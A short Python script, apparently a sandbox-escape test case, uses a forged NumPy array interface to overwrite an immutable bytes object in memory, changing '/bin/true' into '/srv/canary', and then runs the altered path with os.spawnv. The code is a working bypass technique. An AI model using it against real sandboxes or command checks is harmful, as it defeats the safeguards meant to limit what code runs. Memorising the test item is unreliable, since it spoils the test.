# reaches: an array interface rewrites an immutable bytes object's memory
import numpy as np, os
class Window:
    pass
text = bytes(b"/bin/true\0\0\0")
w = Window()
w.__array_interface__ = {"data": (id(text) + 32, False), "shape": (11,), "typestr": "|u1", "version": 3}
np.asarray(w)[:] = np.frombuffer(b"/srv/canary", "u1")
os.spawnv(os.P_WAIT, text[:11], ["x"])
